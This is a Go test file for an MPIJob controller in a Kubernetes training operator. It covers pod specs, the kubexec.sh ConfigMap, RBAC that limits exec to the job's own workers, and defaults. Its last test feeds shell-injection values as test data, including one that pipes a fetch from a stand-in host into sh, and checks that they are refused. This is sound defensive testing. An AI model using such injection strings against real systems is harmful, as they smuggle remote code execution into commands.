package mpi_test

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	"k8s.io/apimachinery/pkg/api/resource"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/utils/ptr"

	trainingv1 "github.com/kfup/kfup/components/training/api/v1"
	"github.com/kfup/kfup/components/training/engine"
	"github.com/kfup/kfup/components/training/frameworks/internal/fwtest"
	"github.com/kfup/kfup/components/training/frameworks/mpi"
)

var ev = fwtest.EnvVar

func job(t *testing.T, spec, launcher, worker string) *trainingv1.MPIJob {
	t.Helper()
	doc := `
metadata: {name: pi, namespace: ns, uid: u-1}
spec:
` + spec + `
  mpiReplicaSpecs:
    Launcher:
      template:
        ` + launcher + `
`
	if worker != "" {
		doc += `    Worker:
      replicas: 2
      template:
        ` + worker + "\n"
	}
	return fwtest.Decode[trainingv1.MPIJob](t, doc)
}

const cpuLauncher = `spec: {containers: [{name: mpi, image: mpi-img, command: [mpirun, -np, "2", /app/pi], resources: {limits: {cpu: "1"}}}]}`
const plainWorker = `spec: {containers: [{name: mpi, image: mpi-img}]}`

var owner = metav1.OwnerReference{APIVersion: "kubeflow.org/v1", Kind: "MPIJob", Name: "pi", UID: "u-1",
	Controller: ptr.To(true), BlockOwnerDeletion: ptr.To(true)}

func TestLauncherPod(t *testing.T) {
	pod, err := engine.DesiredPod(mpi.New(), job(t, "", cpuLauncher, plainWorker), "Launcher", 0)
	if err != nil {
		t.Fatal(err)
	}
	limits := corev1.ResourceList{
		corev1.ResourceCPU:              resource.MustParse("100m"),
		corev1.ResourceMemory:           resource.MustParse("512Mi"),
		corev1.ResourceEphemeralStorage: resource.MustParse("5Gi"),
	}
	want := &corev1.Pod{
		TypeMeta: metav1.TypeMeta{APIVersion: "v1", Kind: "Pod"},
		ObjectMeta: metav1.ObjectMeta{
			Name: "pi-launcher", Namespace: "ns",
			Labels: map[string]string{
				"training.kubeflow.org/operator-name": "mpijob-controller",
				"training.kubeflow.org/job-name":      "pi",
				"training.kubeflow.org/replica-type":  "launcher",
				"training.kubeflow.org/job-role":      "master",
			},
			Annotations:     map[string]string{"sidecar.istio.io/inject": "false"},
			OwnerReferences: []metav1.OwnerReference{owner},
		},
		Spec: corev1.PodSpec{
			RestartPolicy:      corev1.RestartPolicyNever,
			ServiceAccountName: "pi-launcher",
			InitContainers: []corev1.Container{{
				Name: "kubectl-delivery", Image: "kubeflow/kubectl-delivery:latest", ImagePullPolicy: corev1.PullIfNotPresent,
				Env: []corev1.EnvVar{ev("TARGET_DIR", "/opt/kube"), ev("NAMESPACE", "ns")},
				VolumeMounts: []corev1.VolumeMount{
					{Name: "mpi-job-kubectl", MountPath: "/opt/kube"},
					{Name: "mpi-job-workers", MountPath: "/etc/mpi"},
				},
				Resources: corev1.ResourceRequirements{Limits: limits, Requests: limits},
				SecurityContext: &corev1.SecurityContext{
					RunAsNonRoot: ptr.To(true), RunAsUser: ptr.To[int64](65532), RunAsGroup: ptr.To[int64](65532),
					AllowPrivilegeEscalation: ptr.To(false),
					Capabilities:             &corev1.Capabilities{Drop: []corev1.Capability{"ALL"}},
					SeccompProfile:           &corev1.SeccompProfile{Type: corev1.SeccompProfileTypeRuntimeDefault},
				},
			}},
			Containers: []corev1.Container{{
				Name: "mpi", Image: "mpi-img", Command: []string{"mpirun", "-np", "2", "/app/pi"},
				Resources: corev1.ResourceRequirements{Limits: corev1.ResourceList{corev1.ResourceCPU: resource.MustParse("1")}},
				Env: []corev1.EnvVar{
					ev("OMPI_MCA_plm_rsh_agent", "/etc/mpi/kubexec.sh"),
					ev("OMPI_MCA_orte_default_hostfile", "/etc/mpi/hostfile"),
					ev("NVIDIA_VISIBLE_DEVICES", ""),
					ev("NVIDIA_DRIVER_CAPABILITIES", ""),
					ev("I_MPI_HYDRA_BOOTSTRAP", "rsh"),
					ev("I_MPI_HYDRA_BOOTSTRAP_EXEC", "/etc/mpi/kubexec.sh"),
				},
				VolumeMounts: []corev1.VolumeMount{
					{Name: "mpi-job-kubectl", MountPath: "/opt/kube"},
					{Name: "mpi-job-config", MountPath: "/etc/mpi"},
				},
			}},
			Volumes: []corev1.Volume{
				{Name: "mpi-job-kubectl", VolumeSource: corev1.VolumeSource{EmptyDir: &corev1.EmptyDirVolumeSource{}}},
				{Name: "mpi-job-config", VolumeSource: corev1.VolumeSource{ConfigMap: &corev1.ConfigMapVolumeSource{
					LocalObjectReference: corev1.LocalObjectReference{Name: "pi-config"},
					Items: []corev1.KeyToPath{
						{Key: "kubexec.sh", Path: "kubexec.sh", Mode: ptr.To[int32](0o555)},
						{Key: "hostfile", Path: "hostfile", Mode: ptr.To[int32](0o444)},
						{Key: "discover_hosts.sh", Path: "discover_hosts.sh", Mode: ptr.To[int32](0o555)},
					},
				}}},
				{Name: "mpi-job-workers", VolumeSource: corev1.VolumeSource{ConfigMap: &corev1.ConfigMapVolumeSource{
					LocalObjectReference: corev1.LocalObjectReference{Name: "pi-config"},
					Items:                []corev1.KeyToPath{{Key: "workers_hostfile", Path: "hostfile", Mode: ptr.To[int32](0o444)}},
				}}},
			},
		},
	}
	if diff := cmp.Diff(want, pod, fwtest.EquateQuantities); diff != "" {
		t.Errorf("launcher (-want +got):\n%s", diff)
	}
}

func TestWorkerPods(t *testing.T) {
	cases := []struct {
		name        string
		worker      string
		wantCommand []string
		wantArgs    []string
	}{
		{"no command: sleep", plainWorker, []string{"sleep"}, []string{"365d"}},
		{"own command kept", `spec: {containers: [{name: mpi, image: i, command: [/usr/sbin/sshd, -De]}]}`, []string{"/usr/sbin/sshd", "-De"}, nil},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			pods, err := engine.DesiredPods(mpi.New(), job(t, "", cpuLauncher, tc.worker))
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff([]string{"pi-launcher", "pi-worker-0", "pi-worker-1"}, fwtest.Names(pods)); diff != "" {
				t.Fatalf("pods (-want +got):\n%s", diff)
			}
			w := pods[2]
			wantLabels := map[string]string{
				"training.kubeflow.org/operator-name": "mpijob-controller",
				"training.kubeflow.org/job-name":      "pi",
				"training.kubeflow.org/replica-type":  "worker",
				"training.kubeflow.org/replica-index": "1",
			}
			if diff := cmp.Diff(wantLabels, w.Labels); diff != "" {
				t.Errorf("labels (-want +got):\n%s", diff)
			}
			c := w.Spec.Containers[0]
			if diff := cmp.Diff(tc.wantCommand, c.Command); diff != "" {
				t.Errorf("command (-want +got):\n%s", diff)
			}
			if diff := cmp.Diff(tc.wantArgs, c.Args); diff != "" {
				t.Errorf("args (-want +got):\n%s", diff)
			}
			if diff := cmp.Diff([]corev1.VolumeMount{{Name: "mpi-job-config", MountPath: "/etc/mpi"}}, c.VolumeMounts); diff != "" {
				t.Errorf("mounts (-want +got):\n%s", diff)
			}
			wantVol := []corev1.Volume{{Name: "mpi-job-config", VolumeSource: corev1.VolumeSource{ConfigMap: &corev1.ConfigMapVolumeSource{
				LocalObjectReference: corev1.LocalObjectReference{Name: "pi-config"},
				Items:                []corev1.KeyToPath{{Key: "kubexec.sh", Path: "kubexec.sh", Mode: ptr.To[int32](0o555)}},
			}}}}
			if diff := cmp.Diff(wantVol, w.Spec.Volumes); diff != "" {
				t.Errorf("volumes (-want +got):\n%s", diff)
			}
			if len(c.Env) != 0 || w.Spec.RestartPolicy != corev1.RestartPolicyNever || w.Spec.ServiceAccountName != "" {
				t.Errorf("worker env %v, restartPolicy %q, serviceAccount %q", c.Env, w.Spec.RestartPolicy, w.Spec.ServiceAccountName)
			}
		})
	}
}

func TestConfigMap(t *testing.T) {
	running := func(name, rtype string) *corev1.Pod {
		return &corev1.Pod{
			ObjectMeta: metav1.ObjectMeta{Name: name, Labels: map[string]string{
				"training.kubeflow.org/operator-name": "mpijob-controller",
				"training.kubeflow.org/job-name":      "pi",
				"training.kubeflow.org/replica-type":  rtype,
			}},
			Status: corev1.PodStatus{Phase: corev1.PodRunning},
		}
	}
	pending := running("pi-worker-2", "worker")
	pending.Status.Phase = corev1.PodPending
	pods := []*corev1.Pod{running("pi-worker-1", "worker"), running("pi-launcher", "launcher"), pending, running("pi-worker-0", "worker")}

	cases := []struct {
		name                                   string
		spec, launcher                         string
		pods                                   []*corev1.Pod
		hostfile, workers, kubexec, discoverSh string
	}{
		{
			name: "cpu launcher, one slot", launcher: cpuLauncher, pods: pods,
			hostfile:   "pi-worker-0 slots=1\npi-worker-1 slots=1\n",
			workers:    "pi-worker-0 slots=1\npi-worker-1 slots=1\n",
			kubexec:    "#!/bin/sh\nset -x\nPOD_NAME=$1\nshift\n/opt/kube/kubectl exec ${POD_NAME} -- /bin/sh -c \"$*\"",
			discoverSh: "#!/bin/sh\necho pi-worker-0:1\necho pi-worker-1:1",
		},
		{
			name: "gpu launcher, slots and main container", spec: "  slotsPerWorker: 4\n  mainContainer: trainer",
			launcher:   `spec: {containers: [{name: trainer, image: i, resources: {limits: {nvidia.com/gpu: "1"}}}]}`,
			hostfile:   "pi-launcher slots=4\npi-worker-0 slots=4\npi-worker-1 slots=4\n",
			workers:    "pi-worker-0 slots=4\npi-worker-1 slots=4\n",
			kubexec:    "#!/bin/sh\nset -x\nPOD_NAME=$1\nshift\n/opt/kube/kubectl exec ${POD_NAME} --container trainer -- /bin/sh -c \"$*\"",
			discoverSh: "#!/bin/sh\necho pi-launcher:4\n",
		},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			extras, err := engine.DesiredExtras(mpi.New(), job(t, tc.spec, tc.launcher, plainWorker), tc.pods)
			if err != nil {
				t.Fatal(err)
			}
			want := &corev1.ConfigMap{
				TypeMeta: metav1.TypeMeta{APIVersion: "v1", Kind: "ConfigMap"},
				ObjectMeta: metav1.ObjectMeta{Name: "pi-config", Namespace: "ns", Labels: map[string]string{"training.kubeflow.org/operator-name": "mpijob-controller", "training.kubeflow.org/job-name": "pi", "app": "pi"},
					OwnerReferences: []metav1.OwnerReference{owner}},
				Data: map[string]string{"hostfile": tc.hostfile, "workers_hostfile": tc.workers, "kubexec.sh": tc.kubexec, "discover_hosts.sh": tc.discoverSh},
			}
			if diff := cmp.Diff(want, extras[0]); diff != "" {
				t.Errorf("ConfigMap (-want +got):\n%s", diff)
			}
		})
	}
}

func TestGPULauncherEnv(t *testing.T) {
	for _, limit := range []string{"nvidia.com/gpu", "amd.com/gpu", "gpu.intel.com/i915"} {
		j := job(t, "", `spec: {containers: [{name: mpi, image: i, resources: {limits: {`+limit+`: "1"}}}]}`, plainWorker)
		if !mpi.IsGPULauncher(j) {
			t.Errorf("%s: not a GPU launcher", limit)
		}
		pod, err := engine.DesiredPod(mpi.New(), j, "Launcher", 0)
		if err != nil {
			t.Fatal(err)
		}
		for _, e := range pod.Spec.Containers[0].Env {
			if strings.HasPrefix(e.Name, "NVIDIA_") {
				t.Errorf("%s: GPU launcher got %s", limit, e.Name)
			}
		}
	}
}

func TestIntelMPIEnvKept(t *testing.T) {
	j := job(t, "", `spec: {containers: [{name: mpi, image: i, env: [{name: I_MPI_HYDRA_BOOTSTRAP, value: ssh}, {name: I_MPI_HYDRA_BOOTSTRAP_EXEC, value: /usr/bin/ssh}]}]}`, plainWorker)
	pod, err := engine.DesiredPod(mpi.New(), j, "Launcher", 0)
	if err != nil {
		t.Fatal(err)
	}
	want := []corev1.EnvVar{
		ev("I_MPI_HYDRA_BOOTSTRAP", "ssh"), ev("I_MPI_HYDRA_BOOTSTRAP_EXEC", "/usr/bin/ssh"),
		ev("OMPI_MCA_plm_rsh_agent", "/etc/mpi/kubexec.sh"), ev("OMPI_MCA_orte_default_hostfile", "/etc/mpi/hostfile"),
		ev("NVIDIA_VISIBLE_DEVICES", ""), ev("NVIDIA_DRIVER_CAPABILITIES", ""),
	}
	if diff := cmp.Diff(want, pod.Spec.Containers[0].Env); diff != "" {
		t.Errorf("env (-want +got):\n%s", diff)
	}
}

func TestDeliveryOptions(t *testing.T) {
	fw := mpi.New(mpi.WithDeliveryImage("kfup/kfup:dev"), mpi.WithDeliveryCommand("/kfup", "mpi-deliver"))
	pod, err := engine.DesiredPod(fw, job(t, "", cpuLauncher, plainWorker), "Launcher", 0)
	if err != nil {
		t.Fatal(err)
	}
	ic := pod.Spec.InitContainers[0]
	if ic.Image != "kfup/kfup:dev" || !cmp.Equal(ic.Command, []string{"/kfup", "mpi-deliver"}) {
		t.Errorf("init container image %q command %v", ic.Image, ic.Command)
	}
}

func TestRBAC(t *testing.T) {
	meta := metav1.ObjectMeta{Name: "pi-launcher", Namespace: "ns", Labels: map[string]string{"training.kubeflow.org/operator-name": "mpijob-controller", "training.kubeflow.org/job-name": "pi", "app": "pi"}, OwnerReferences: []metav1.OwnerReference{owner}}
	readPods := rbacv1.PolicyRule{Verbs: []string{"get", "list", "watch"}, APIGroups: []string{""}, Resources: []string{"pods"}}
	binding := func(sa string) *rbacv1.RoleBinding {
		return &rbacv1.RoleBinding{
			TypeMeta:   metav1.TypeMeta{APIVersion: "rbac.authorization.k8s.io/v1", Kind: "RoleBinding"},
			ObjectMeta: meta,
			Subjects:   []rbacv1.Subject{{Kind: "ServiceAccount", Name: sa, Namespace: "ns"}},
			RoleRef:    rbacv1.RoleRef{APIGroup: "rbac.authorization.k8s.io", Kind: "Role", Name: "pi-launcher"},
		}
	}
	workerPod := func(name string, controller types.UID) *corev1.Pod {
		return &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: name, Labels: map[string]string{
			"training.kubeflow.org/operator-name": "mpijob-controller", "training.kubeflow.org/job-name": "pi", "training.kubeflow.org/replica-type": "worker",
		}, OwnerReferences: []metav1.OwnerReference{{APIVersion: "kubeflow.org/v1", Kind: "MPIJob", Name: "pi", UID: controller, Controller: ptr.To(true)}}}}
	}
	cases := []struct {
		name     string
		launcher string
		worker   string
		pods     []*corev1.Pod
		want     []engine.Object
	}{
		{"own service account, exec into the workers", cpuLauncher, plainWorker, []*corev1.Pod{workerPod("pi-worker-1", "u-1"), workerPod("pi-worker-0", "u-1")}, []engine.Object{
			&corev1.ServiceAccount{TypeMeta: metav1.TypeMeta{APIVersion: "v1", Kind: "ServiceAccount"}, ObjectMeta: meta},
			&rbacv1.Role{TypeMeta: metav1.TypeMeta{APIVersion: "rbac.authorization.k8s.io/v1", Kind: "Role"}, ObjectMeta: meta,
				Rules: []rbacv1.PolicyRule{readPods, {Verbs: []string{"create"}, APIGroups: []string{""}, Resources: []string{"pods/exec"},
					ResourceNames: []string{"pi-worker-0", "pi-worker-1"}}}},
			binding("pi-launcher"),
		}},
		// a pod of a worker's name that is not the job's (someone else's, here of another
		// job of the name) is not exec'd into; nor are workers not created yet
		{"exec only into the job's own workers", cpuLauncher, plainWorker, []*corev1.Pod{workerPod("pi-worker-1", "u-1"), workerPod("pi-worker-0", "u-other")}, []engine.Object{
			&corev1.ServiceAccount{TypeMeta: metav1.TypeMeta{APIVersion: "v1", Kind: "ServiceAccount"}, ObjectMeta: meta},
			&rbacv1.Role{TypeMeta: metav1.TypeMeta{APIVersion: "rbac.authorization.k8s.io/v1", Kind: "Role"}, ObjectMeta: meta,
				Rules: []rbacv1.PolicyRule{readPods, {Verbs: []string{"create"}, APIGroups: []string{""}, Resources: []string{"pods/exec"},
					ResourceNames: []string{"pi-worker-1"}}}},
			binding("pi-launcher"),
		}},
		{"no worker pod yet: no exec at all", cpuLauncher, plainWorker, nil, []engine.Object{
			&corev1.ServiceAccount{TypeMeta: metav1.TypeMeta{APIVersion: "v1", Kind: "ServiceAccount"}, ObjectMeta: meta},
			&rbacv1.Role{TypeMeta: metav1.TypeMeta{APIVersion: "rbac.authorization.k8s.io/v1", Kind: "Role"}, ObjectMeta: meta,
				Rules: []rbacv1.PolicyRule{readPods}},
			binding("pi-launcher"),
		}},
		{"user's service account, no workers: no exec at all", `spec: {serviceAccountName: trainer, containers: [{name: mpi, image: i}]}`, "", nil, []engine.Object{
			&rbacv1.Role{TypeMeta: metav1.TypeMeta{APIVersion: "rbac.authorization.k8s.io/v1", Kind: "Role"}, ObjectMeta: meta,
				Rules: []rbacv1.PolicyRule{readPods}},
			binding("trainer"),
		}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			extras, err := engine.DesiredExtras(mpi.New(), job(t, "", tc.launcher, tc.worker), tc.pods)
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(tc.want, extras[1:]); diff != "" {
				t.Errorf("RBAC (-want +got):\n%s", diff)
			}
		})
	}
}

func TestNoServicesAndDefaults(t *testing.T) {
	j := fwtest.Decode[trainingv1.MPIJob](t, `
metadata: {name: pi, namespace: ns}
spec:
  cleanPodPolicy: All
  mpiReplicaSpecs:
    Launcher: {template: {spec: {containers: [{name: mpi, image: i}]}}}
    Worker: {template: {spec: {containers: [{name: mpi, image: i}]}}}`)
	c, err := engine.Desired(mpi.New(), j, nil)
	if err != nil {
		t.Fatal(err)
	}
	// Worker replicas default to 0 for MPIJob.
	if diff := cmp.Diff([]string{"pi-launcher"}, fwtest.Names(c.Pods)); diff != "" {
		t.Errorf("pods (-want +got):\n%s", diff)
	}
	if len(c.Services) != 0 {
		t.Errorf("services %v, want none", c.Services)
	}
	cases := []struct {
		name          string
		spec, runSpec *trainingv1.CleanPodPolicy
		want          trainingv1.CleanPodPolicy
	}{
		{"neither: Running (kfup's default)", nil, nil, trainingv1.CleanPodPolicyRunning},
		{"deprecated spec.cleanPodPolicy", ptr.To(trainingv1.CleanPodPolicyAll), nil, trainingv1.CleanPodPolicyAll},
		{"runPolicy wins", ptr.To(trainingv1.CleanPodPolicyAll), ptr.To(trainingv1.CleanPodPolicyRunning), trainingv1.CleanPodPolicyRunning},
		{"an explicit None is kept", nil, ptr.To(trainingv1.CleanPodPolicyNone), trainingv1.CleanPodPolicyNone},
	}
	for _, tc := range cases {
		j := j.DeepCopy()
		j.Spec.CleanPodPolicy, j.Spec.RunPolicy.CleanPodPolicy = tc.spec, tc.runSpec
		d, err := engine.Defaulted(mpi.New(), j)
		if err != nil {
			t.Fatal(err)
		}
		got := d.(*trainingv1.MPIJob).Spec
		if *got.CleanPodPolicy != tc.want || *got.RunPolicy.CleanPodPolicy != tc.want {
			t.Errorf("%s: cleanPodPolicy %s / runPolicy %s, want %s", tc.name, *got.CleanPodPolicy, *got.RunPolicy.CleanPodPolicy, tc.want)
		}
	}
}

// mainContainer reaches kubexec.sh, a shell script: a value that is not a container name
// (a DNS-1123 label) is refused instead of being run by the launcher's shell.
func TestMainContainerMustBeAContainerName(t *testing.T) {
	cases := []struct {
		main    string
		wantErr string
	}{
		{main: ""},
		{main: "trainer"},
		{main: `x"; curl evil | sh; "`, wantErr: `spec.mainContainer "x\"; curl evil | sh; \"" is not a container name`},
		{main: "$(id)", wantErr: "is not a container name"},
		{main: strings.Repeat("a", 64), wantErr: "must be no more than 63 characters"},
	}
	for _, tc := range cases {
		j := job(t, "", cpuLauncher, plainWorker)
		j.Spec.MainContainer = tc.main
		_, err := engine.DesiredExtras(mpi.New(), j, nil)
		switch {
		case tc.wantErr == "" && err != nil:
			t.Errorf("mainContainer %q: %v", tc.main, err)
		case tc.wantErr != "" && (err == nil || !strings.Contains(err.Error(), tc.wantErr)):
			t.Errorf("mainContainer %q: error %v, want one containing %q", tc.main, err, tc.wantErr)
		}
	}
}
